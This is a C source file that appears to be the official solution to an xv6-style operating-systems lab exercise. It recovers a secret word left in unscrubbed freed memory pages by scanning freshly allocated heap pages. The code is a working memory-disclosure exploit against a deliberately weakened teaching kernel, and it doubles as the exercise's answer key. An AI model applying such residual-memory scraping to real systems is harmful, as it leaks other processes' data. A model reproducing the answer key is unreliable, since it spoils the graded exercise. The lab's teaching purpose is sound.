// attack: find the word that `secret` left in memory when it exited,
// and write it to file descriptor 2, where attacktest reads it.  The
// syscall lab's attack exercise (docs/labs/syscall.md).  It can work
// only in the lab's tree, where a page the kernel hands out still holds
// what its last owner wrote (SCRUB_PAGES in kernel/param.h).
// lab syscall: solution
//
// secret wrote its word at offset 32 of one of its heap pages, below a
// label that says it is a secret, and exited.  The kernel's free list
// hands out the most recently freed pages first, and attacktest has
// taken only a few pages since (a pipe, a fork, this exec), so most of
// secret's pages end up in the heap this program grows.  Look at each
// of them for that layout.

#include "kernel/types.h"
#include "kernel/riscv.h"
#include "user/user.h"

#define NPAGES   64     // pages of heap to look through
#define LABEL_AT 8      // bytes 0..7 of a free page hold the free-list link
#define WORD_AT  32
#define MAXWORD  31

// Does s[0..n) contain the string t?
static int
contains(const char *s, int n, const char *t)
{
  int len = strlen(t);
  for(int i = 0; i + len <= n; i++)
    if(memcmp(s + i, t, len) == 0)
      return 1;
  return 0;
}

// The length of the word at w: printable characters other than space,
// then a NUL; 0 if w holds no such word of 1..MAXWORD characters.
static int
word_length(const char *w)
{
  for(int i = 0; i <= MAXWORD; i++){
    if(w[i] == 0)
      return i;
    if(w[i] <= ' ' || w[i] > '~')
      return 0;
  }
  return 0;
}

int
main(void)
{
  char *heap = sbrk(NPAGES * PGSIZE);
  if(heap == SBRK_ERROR){
    printf("attack: no memory\n");
    exit(1);
  }
  for(int i = 0; i < NPAGES; i++){
    char *page = heap + i * PGSIZE;
    int len = word_length(page + WORD_AT);
    if(len > 0 && contains(page + LABEL_AT, WORD_AT - LABEL_AT, "secret")){
      write(2, page + WORD_AT, len + 1);   // the word and its NUL
      exit(0);
    }
  }
  printf("attack: no secret in %d pages\n", NPAGES);
  exit(1);
}
